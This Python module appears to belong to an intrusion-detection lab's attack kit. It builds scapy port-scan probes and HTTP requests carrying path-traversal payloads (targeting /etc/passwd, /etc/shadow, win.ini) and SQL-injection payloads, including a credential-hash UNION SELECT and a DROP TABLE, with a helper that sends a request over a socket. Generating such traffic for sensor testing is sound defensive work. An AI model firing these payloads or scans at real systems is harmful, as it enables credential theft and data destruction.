"""The scapy side of the attack kit: probe and payload packets built as data (no root, nothing sent)."""

from __future__ import annotations

import random
import socket
from collections.abc import Sequence
from typing import Any

from ids.attacks.target import AttackError, check_target

SCAN_FLAGS = {"syn": "S", "null": "", "xmas": "FPU", "fin": "F", "udp": None}

PAYLOADS: dict[str, tuple[tuple[str, str, str], ...]] = {
    # (method, path, JSON body) against the approval portal's routes
    "traversal": (
        ("GET", "/applications/..%2f..%2f..%2fetc%2fpasswd", ""),
        ("GET", "/files/../../../etc/passwd", ""),
        ("GET", "/applications/%2e%2e/%2e%2e/etc/shadow", ""),
        ("GET", "/static/..\\..\\windows\\win.ini", ""),
    ),
    "sqli": (
        ("GET", "/applications/1'%20OR%20'1'='1", ""),
        ("GET", "/applications/1%20UNION%20SELECT%20name,hash%20FROM%20users", ""),
        ("POST", "/login", '{"user": "admin\' OR \'1\'=\'1", "password": "x\' or 1=1 --"}'),
        ("GET", "/applications/1;DROP%20TABLE%20applications", ""),
    ),
}


def parse_ports(spec: str) -> list[int]:
    out: list[int] = []
    try:
        for part in spec.split(","):
            lo, _, hi = part.partition("-")
            a, b = int(lo), int(hi or lo)
            if not 0 < a <= b < 65536:
                raise ValueError
            out += range(a, b + 1)
    except ValueError:
        raise AttackError(f"ports must look like 1-100 or 22,80,443 within 1..65535 (got {spec!r})") from None
    return out


def scan_packets(target: str, ports: str, kind: str, seed: int, src: str | None = None) -> list[Any]:
    """The probes of a scapy scan (IP layer), ports in a seeded order with seeded source ports."""
    from scapy.layers.inet import IP, TCP, UDP

    if kind not in SCAN_FLAGS:
        raise AttackError(f"scan kind must be one of {', '.join(SCAN_FLAGS)}, not {kind!r}")
    rng = random.Random(seed)
    order = parse_ports(ports)
    rng.shuffle(order)
    ip = IP(dst=check_target(target, allow_public=True))
    if src:
        ip.src = src
    flags = SCAN_FLAGS[kind]
    out = []
    for p in order:
        sport = rng.randint(1024, 65535)
        l4 = (
            UDP(sport=sport, dport=p)
            if flags is None
            else TCP(sport=sport, dport=p, flags=flags, seq=rng.getrandbits(32))
        )
        out.append(ip / l4)
    return out


def web_requests(target: str, port: int, kinds: Sequence[str], seed: int) -> list[bytes]:
    """The HTTP/1.1 requests of `scapy_web`, in a seeded order."""
    rng = random.Random(seed)
    items = [item for k in kinds for item in PAYLOADS[k]]
    rng.shuffle(items)
    out = []
    for method, path, body in items:
        head = f"{method} {path} HTTP/1.1\r\nHost: {target}:{port}\r\nUser-Agent: govnet-attack-kit\r\n"
        if body:
            head += f"Content-Type: application/json\r\nContent-Length: {len(body.encode())}\r\n"
        out.append((head + "Connection: close\r\n\r\n" + body).encode())
    return out


def web_packets(
    target: str, port: int, requests: Sequence[bytes], seed: int, src: str | None = None
) -> list[Any]:
    """Each request as one crafted PSH/ACK segment (seen by a sensor; no handshake, the server drops it)."""
    from scapy.layers.inet import IP, TCP
    from scapy.packet import Raw

    rng = random.Random(seed)
    ip = IP(dst=check_target(target, allow_public=True))
    if src:
        ip.src = src
    return [
        ip
        / TCP(
            sport=rng.randint(1024, 65535),
            dport=port,
            flags="PA",
            seq=rng.getrandbits(32),
            ack=rng.getrandbits(32),
        )
        / Raw(req)
        for req in requests
    ]


def send_socket(target: str, port: int, req: bytes, timeout: float = 3.0) -> str:
    try:
        with socket.create_connection((target, port), timeout) as s:
            s.sendall(req)
            reply = s.recv(256).split(b"\r\n", 1)[0].decode("latin-1")
        return reply or "(no reply)"
    except OSError as exc:
        return f"(error: {exc})"
